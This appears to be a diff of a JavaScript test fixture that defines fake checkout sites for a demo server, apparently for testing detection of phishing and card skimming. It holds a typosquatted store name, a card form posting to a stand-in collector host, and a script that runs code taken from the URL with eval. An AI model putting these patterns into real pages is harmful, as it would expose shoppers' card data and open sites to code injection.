@@ -31,8 +31,11 @@ const CARD = `<form id="pay" method="post" action="/take"><h2>Pay by card</h2>
 const TRANSFER = `<form id="pay" method="post" action="/take"><h2>Payment method</h2>
 <label><input type="radio" name="payment_method" value="bank_transfer" checked> Bank transfer</label>
 <label><input type="radio" name="payment_method" value="gift_card"> Gift card</label>
-<label>Your name <input id="holder" name="holder" required></label><button id="send" type="submit" name="step" value="pay">Place order</button></form>
-<form id="search" role="search" action="/find"><input type="search" name="q"><button id="find">Search</button></form>`;
+<label>Your name <input id="holder" name="holder" required></label><button id="send" type="submit" name="step" value="pay">Place order</button></form>`;
+
+const ASIDE = `<form id="search" role="search" action="/find"><input type="search" name="q"><button id="find">Search</button></form>
+<form id="coupon" method="post" action="/find"><label>Voucher <input name="coupon"></label><button id="redeem">Redeem</button></form>
+<form id="news" method="post" action="/find"><label>Newsletter <input type="email" name="email"></label><button id="join">Subscribe</button></form>`;
 
 /** Runs what its address says before anything else. */
 const HOSTILE = `<script>{ const code = new URLSearchParams(location.search).get('attack'); if (code !== null) (0, eval)(code); }</script>`;
@@ -107,20 +110,17 @@ const SEEN = ['analytics-seen', 'lookup-seen', 'fraud-seen', 'chat-seen', 'error
 const skimmed = page('Checkout', `<main><h1>Checkout</h1>${CARD}</main>${SEEN.map((name) => `<script src="https://${name}.test/tag.js"></script>`).join('')}<script>${SKIMMER}</script>`);
 const STRANGERS = [...SEEN.map((name) => `${name}.test`), 'eu.analytics-seen.test', 'pictures-new.test', 'lookup-new.test', 'acs-bank.test'];
 
-/** A page that may be kept for going back, and that says how it came before the shopper: drawn ahead, or taken from the cache. */
-const HOW_IT_CAME = `<script>if (document.prerendering) document.documentElement.dataset.ahead = 'yes';
-addEventListener('pageshow', (event) => { if (event.persisted) document.documentElement.dataset.kept = 'yes'; });</script>`;
-const AHEAD = `<script type="speculationrules">{"prerender":[{"urls":["/checkout"],"eagerness":"immediate"}]}</script>`;
+/** A page that may be kept for going back, and that says so when it was taken from the cache. */
+const HOW_IT_CAME = `<script>addEventListener('pageshow', (event) => { if (event.persisted) document.documentElement.dataset.kept = 'yes'; });</script>`;
 const KEPT = {
   '/paper': page('The bridge at low water', '<p>On Thursdays the ferry stops early.</p><a id="on" href="/checkout">on</a>', HOW_IT_CAME),
-  '/ahead': page('The bridge at low water', '<p>On Thursdays the ferry stops early.</p><a id="on" href="/checkout">on</a>', AHEAD),
   '/checkout': page('Checkout', `<main><h1>Checkout</h1>${CARD.replace('action="/take"', 'action="https://collector-of-cards.test/take"')}<a id="on" href="/paper">on</a></main>`, HOW_IT_CAME),
 };
 
 /** @type {Record<string, import('../../../demo/server.mjs').Site>} */
 export const ACTING = {
-  'paypa1-checkout.test': { keepsForms: true, page: site(till(CARD)) },
-  'transfer-only.test': { keepsForms: true, page: site(till(TRANSFER)) },
+  'paypa1-checkout.test': { keepsForms: true, page: site(till(CARD + ASIDE)) },
+  'transfer-only.test': { keepsForms: true, page: site(till(TRANSFER + ASIDE)) },
   'quiet-till.test': { page: site(page('Checkout', `<main><h1>Checkout</h1>${CARD.replace('action="/take"', 'action="https://collector-of-cards.test/take"')}</main>`, HOSTILE)) },
   'honest-till.test': { page: site(skimmed) },
   // The same, but its form posts to somebody else: caution.
